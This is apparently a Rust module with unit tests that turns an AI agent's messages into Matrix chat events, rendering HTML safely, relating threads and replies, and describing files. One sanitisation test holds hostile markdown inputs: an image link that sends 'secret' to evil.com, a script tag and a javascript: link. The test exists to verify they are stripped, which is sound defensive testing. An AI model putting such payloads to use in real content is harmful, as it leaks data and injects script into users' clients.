//! Converts a message of the agent to events: as plain text and as HTML, in its thread. Pure.

use agent_channel::Message;
use pulldown_cmark::Event;
use serde_json::{Value, json};

/// The largest content, bytes: encrypted and in base64 it is a third longer, and an event has at most 65,536.
const MAX_CONTENT: usize = 46_000;

/// Returns the content of the words; `None` where a message has none.
pub fn words(message: &Message) -> Option<Value> {
    if message.text.trim().is_empty() {
        return None;
    }
    let mut content = json!({"msgtype": "m.text", "body": message.text});
    let html = html(&message.text);
    let is_plain = html == format!("<p>{}</p>\n", message.text);
    if !is_plain {
        content["format"] = json!("org.matrix.custom.html");
        content["formatted_body"] = json!(html.trim_end());
    }
    if content.to_string().len() > MAX_CONTENT / if message.edit_of.is_some() { 2 } else { 1 } {
        // Words are worth more than how they look.
        content = json!({"msgtype": "m.text", "body": message.text});
    }
    // Nobody is called by what the agent happens to write.
    content["m.mentions"] = json!({});
    if let Some(original) = &message.edit_of {
        // The words of an edit for clients that know none are short: they are in it twice.
        let fallback = format!("* {}", message.text.chars().take(1_000).collect::<String>());
        return Some(
            json!({"msgtype": "m.text", "body": fallback, "m.mentions": {}, "m.new_content": content,
            "m.relates_to": {"rel_type": "m.replace", "event_id": original}}),
        );
    }
    relate(&mut content, message);
    Some(content)
}

/// Returns the content of a reaction; `None` where a message is none.
pub fn reaction(message: &Message) -> Option<Value> {
    let (emoji, to) = (message.reaction.as_ref()?, message.reply_to.as_ref()?);
    Some(annotation(to, emoji))
}

/// Returns an emoji on a message.
pub fn annotation(to: &str, emoji: &str) -> Value {
    json!({"m.relates_to": {"rel_type": "m.annotation", "event_id": to, "key": emoji}})
}

/// Returns the content of a file, whose bytes are at `source`: `url`, or `file` with the key.
pub fn file(message: &Message, name: &str, size: usize, source: &Value) -> Value {
    let kind = kind(name);
    let msgtype = match kind.split('/').next() {
        Some("image") => "m.image",
        Some("audio") => "m.audio",
        Some("video") => "m.video",
        _ => "m.file",
    };
    let name: String = name.chars().filter(|c| !c.is_control()).collect();
    let mut content = json!({"msgtype": msgtype, "body": name, "filename": name, "m.mentions": {},
        "info": {"mimetype": kind, "size": size}});
    if let (Some(content), Some(source)) = (content.as_object_mut(), source.as_object()) {
        content.extend(source.clone());
    }
    relate(&mut content, message);
    content
}

fn relate(content: &mut Value, message: &Message) {
    let answered = message.reply_to.as_ref().filter(|id| id.starts_with('$'));
    match (&message.thread, answered) {
        (Some(root), answered) => {
            content["m.relates_to"] = json!({"rel_type": "m.thread", "event_id": root,
                "is_falling_back": answered.is_none(), "m.in_reply_to": {"event_id": answered.unwrap_or(root)}});
        }
        (None, Some(answered)) => {
            content["m.relates_to"] = json!({"m.in_reply_to": {"event_id": answered}});
        }
        (None, None) => {}
    }
}

/// Returns the type of a file by its name.
pub fn kind(name: &str) -> &'static str {
    let end = name.rsplit('.').next().unwrap_or_default().to_lowercase();
    match end.as_str() {
        "txt" | "log" => "text/plain",
        "md" => "text/markdown",
        "csv" => "text/csv",
        "html" | "htm" => "text/html",
        "pdf" => "application/pdf",
        "png" => "image/png",
        "jpg" | "jpeg" => "image/jpeg",
        "gif" => "image/gif",
        "webp" => "image/webp",
        "ogg" | "oga" => "audio/ogg",
        "mp3" => "audio/mpeg",
        "mp4" => "video/mp4",
        "zip" => "application/zip",
        "json" => "application/json",
        "ics" => "text/calendar",
        _ => "application/octet-stream",
    }
}

fn html(markdown: &str) -> String {
    // A link to a person of Matrix is a mention, which rings their phone.
    let is_mention = |small: &str| {
        small.starts_with("https://matrix.to/#/@") || small.starts_with("https://matrix.to/#/%40")
    };
    // Clients show no boxes.
    agent_channel::html(markdown, is_mention, |event| match event {
        Event::TaskListMarker(is_done) => Event::Text(if is_done { "☑ " } else { "☐ " }.into()),
        event => event,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn message(text: &str) -> Message {
        Message {
            key: "1-2".to_owned(),
            text: text.to_owned(),
            ..Message::default()
        }
    }

    #[test]
    fn words_are_there_plain_and_as_html_and_call_nobody() {
        let content = words(&message("The disk is **half** full, @room.")).expect("words");
        assert_eq!(content["body"], "The disk is **half** full, @room.");
        assert_eq!(
            content["formatted_body"],
            "<p>The disk is <strong>half</strong> full, @room.</p>"
        );
        assert_eq!(content["m.mentions"], json!({}));
        assert_eq!(
            words(&message("plain"))
                .expect("words")
                .get("formatted_body"),
            None
        );
        assert_eq!(words(&message(" ")), None);
    }

    #[test]
    fn html_loads_nothing_runs_nothing_and_rings_nobody() {
        let made = html(
            "![x](https://evil.com/?q=secret) <script>x()</script> [a](javascript:x) [b](https://matrix.to/#/@bob:x) <img src=y>\n\n<b>raw</b>",
        );
        for bad in ["<img", "<script", "javascript:", "<b>", "matrix.to"] {
            assert!(!made.contains(bad), "{bad}: {made}");
        }
        assert!(html("a | b\n-|-\n1 | 2").contains("<table>"));
        assert!(html("- [x] done").contains("☑ done"));
    }

    #[test]
    fn an_answer_stands_where_it_belongs() {
        let mut one = message("x");
        one.reply_to = Some("$e".to_owned());
        assert_eq!(
            words(&one).expect("words")["m.relates_to"],
            json!({"m.in_reply_to": {"event_id": "$e"}})
        );
        one.thread = Some("$root".to_owned());
        let relation = words(&one).expect("words")["m.relates_to"].clone();
        assert_eq!(
            (&relation["rel_type"], &relation["event_id"]),
            (&json!("m.thread"), &json!("$root"))
        );
        assert_eq!(relation["is_falling_back"], false);
        one.edit_of = Some("$old".to_owned());
        let edit = words(&one).expect("words");
        assert_eq!(
            edit["m.relates_to"],
            json!({"rel_type": "m.replace", "event_id": "$old"})
        );
        assert_eq!(edit["m.new_content"]["body"], "x");
    }

    #[test]
    fn nothing_is_larger_than_an_event_may_be() {
        // The longest message that the daemon hands over, in what takes most room.
        for text in [
            "&".repeat(12_000),
            "字".repeat(12_000),
            "\"".repeat(12_000),
            "*a* ".repeat(3_000),
        ] {
            for edit_of in [None, Some("$old".to_owned())] {
                let content = words(&Message {
                    edit_of,
                    ..message(&text)
                })
                .expect("words");
                let size = content.to_string().len();
                assert!(size < MAX_CONTENT + 2_000, "{size}");
            }
        }
    }

    #[test]
    fn a_file_says_what_it_is() {
        let content = file(&message(""), "a\n.PNG", 7, &json!({"url": "mxc://x/y"}));
        assert_eq!(
            (&content["msgtype"], &content["body"], &content["url"]),
            (&json!("m.image"), &json!("a.PNG"), &json!("mxc://x/y"))
        );
    }
}
